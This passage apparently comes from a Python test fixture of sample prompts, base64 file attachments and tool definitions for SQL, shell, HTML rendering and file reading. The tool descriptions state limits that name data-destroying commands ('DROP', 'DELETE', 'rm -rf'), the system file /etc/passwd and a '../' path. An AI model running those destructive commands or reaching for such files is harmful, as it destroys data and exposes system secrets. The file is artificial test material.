    ("Is this Grafana panel showing a memory leak?", "https://grafana.contoso.example/render/d-solo/abc/api?panelId=4&width=1000&height=500&tz=UTC"),
]
FILES = [
    ("Summarise this runbook PDF.", "runbook.pdf", "data:application/pdf;base64,JVBERi0xLjcKJcfsj6IKNSAwIG9iago8PC9MZW5ndGggNiAwIFIvRmlsdGVyIC9GbGF0ZURlY29kZT4+CnN0cmVhbQp4nCvkMlAwUDC1NNUzMVGwsDDRM7JUKErlCtfiyuMK5AIAXQ8GCgplbmRzdHJlYW0KZW5kb2JqCg=="),
    ("Find the slow queries in this log excerpt.", "slow.log", "data:text/plain;base64,IyBUaW1lOiAyMDI0LTEyLTAxVDEwOjAwOjAwClNFTEVDVCAqIEZST00gb3JkZXJzIFdIRVJFIGN1c3RvbWVyX2lkID0gNDI7Cg=="),
]

# Tool definitions whose descriptions (prose for the model, written by the developer)
# carry examples of what the tool takes.
TOOL_DEFS = [
    ("run_sql", "Run a read-only SQL query against the analytics warehouse and return at most 100 rows. Example: SELECT count(*) FROM events WHERE ts > now() - interval '1 day' GROUP BY type; never DROP or DELETE.",
     {"query": "A single SELECT statement, e.g. SELECT id, email FROM users WHERE created_at > '2024-01-01' ORDER BY id LIMIT 10"}),
    ("run_shell", "Execute a shell command in the sandbox, e.g. `ls -la /var/log`, `grep -rn ERROR . | head` or `cat /etc/os-release`. Pipes and && are allowed; rm -rf is refused.",
     {"command": "The command line to run, such as `find . -name '*.py' | xargs wc -l`"}),
    ("render_widget", "Render an HTML snippet for the dashboard, for example <div class=\"card\" onclick=\"select(3)\"><img src=\"/static/x.png\"></div>. Scripts are stripped.",
     {"html": "HTML markup such as <b>bold</b> or <a href=\"/runs/3\">run 3</a>"}),
    ("read_file", "Read a file from the repository checkout, e.g. src/main.rs or ../shared/config.yaml (paths are resolved inside the sandbox, /etc/passwd is not reachable).",
     {"path": "Relative path like docs/README.md"}),
]
